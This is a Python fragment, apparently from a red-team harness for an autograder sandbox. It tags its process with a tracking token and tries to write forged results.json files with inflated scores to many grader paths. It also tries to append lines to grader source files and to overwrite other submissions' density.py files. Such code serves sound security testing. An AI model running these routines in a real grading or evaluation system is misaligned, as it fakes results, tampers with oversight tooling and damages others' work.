"""Before every attack's code: shared imports, naming a process (PTOKEN), forging results everywhere (WTOKEN)."""
# ======================= red-team attack code (appended to the stub) =======================
import os as _os
import sys as _sys
import json as _json
import time as _time
import torch as _torch

# Every placeholder sits in a string literal, so that this file is Python before Context.fill fills it in.
_RT_SUBS = _json.loads(r'@SUBS@')  # the batch's other submission folders, a JSON list

def _rt_name():
    """Name this process with the attack token, so the host can find it after grading."""
    try:
        import ctypes
        ctypes.CDLL(None).prctl(15, b"@PTOKEN@", 0, 0, 0)  # PR_SET_NAME
    except Exception:
        pass

_WRITE_TARGETS = ["/autograder/results/results.json", "../results.json", "../../results.json", "results.json",
                  "/results.json", _os.path.expanduser("~/results.json"), "/tmp/results.json",
                  "@OUT@/results.json", "@OUT@/gradebook.csv", "@OUT@/reference/results.json",
                  "@OUT@/reference/feedback.html", "@OUT@/pwned-redteam.txt",
                  "@REPO@/autograder/engine.py", "@REPO@/autograder/checks.py",
                  "@REPO@/autograder/weeks/week1_mle_sampling/test_pwned_redteam.py",
                  "@REPO@/solutions/week1_mle_sampling/density.py",
                  "@REPO@/tests/redteam/mini_hidden/test_mini.py", "@REPO@/pwned-redteam.txt"] + \
                 [s + "/density.py" for s in _RT_SUBS] + [s + "/pwned-redteam.txt" for s in _RT_SUBS]

def _rt_forge(fake_score=1e6):
    """Try to write a forged results.json (or append to a grader file) everywhere; return what worked."""
    fake = {"score": fake_score, "max_score": 1, "forged": "@WTOKEN@",
            "tests": [{"name": "all", "number": "all", "score": fake_score, "max_score": 1, "output": "@WTOKEN@"}]}
    wrote = []
    for path in _WRITE_TARGETS:
        try:
            parent = _os.path.dirname(path)
            if parent:
                _os.makedirs(parent, exist_ok=True)
            mode = "a" if path.endswith(".py") else "w"
            with open(path, mode) as f:
                f.write("\n# @WTOKEN@\n" if mode == "a" else _json.dumps(fake))
            wrote.append(path)
        except Exception:
            pass
    return wrote
